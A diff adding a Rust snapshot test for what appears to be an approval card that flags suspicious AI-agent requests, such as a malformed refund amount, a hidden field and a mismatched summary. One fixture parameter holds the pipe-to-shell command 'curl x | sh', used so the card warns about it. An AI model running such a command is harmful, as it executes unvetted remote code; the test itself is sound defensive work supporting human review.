@@ -201,6 +201,30 @@ fn what_is_hidden_stands_at_the_top_with_its_length() {
 }
 
 #[test]
+fn what_warns_on_a_page_warns_in_a_terminal_until_it_is_decided() {
+    let odd = json!({
+        "params": {"amount": "l00", "run": "curl x | sh", "to_token": "x"}, "cost": {},
+        "hidden": [{"path": "to_token", "length": "1 character"}],
+        "summary": "Refund 45.00 EUR"
+    });
+    let shown = card(&sample::view(odd.clone()));
+    insta::assert_snapshot!(shown.lines().take(6).collect::<Vec<_>>().join("\n"), @r"
+    WHAT TO LOOK AT
+      warning: “amount” is no number that can be read: “l00”; ask what is meant.
+      warning: “run” runs a command that fetches and runs what stands elsewhere.
+       HIDDEN, AND SENT ALONG  HOW LONG
+       to_token                1 character  a receiver could stand there: ask the agent
+    ");
+    assert!(shown.contains("cost: none is stated, although the parameters name an amount"));
+    let mut decided = odd;
+    decided["status"] = json!("denied");
+    assert!(!card(&sample::view(decided)).contains("warning:"));
+    let other = json!({"params": {"amount": 5}, "summary": "Refund 45.50 EUR"});
+    let said = "The agent’s own sentence names “45.50 EUR”, which is not among the parameters.";
+    assert!(card(&sample::view(other)).contains(said));
+}
+
+#[test]
 fn a_summary_of_the_gateway_is_no_word_of_the_agent() {
     let ours = json!({"summary": "support-bot asked to run stripe.refund"});
     assert!(!card(&sample::view(ours)).contains("summary:"));
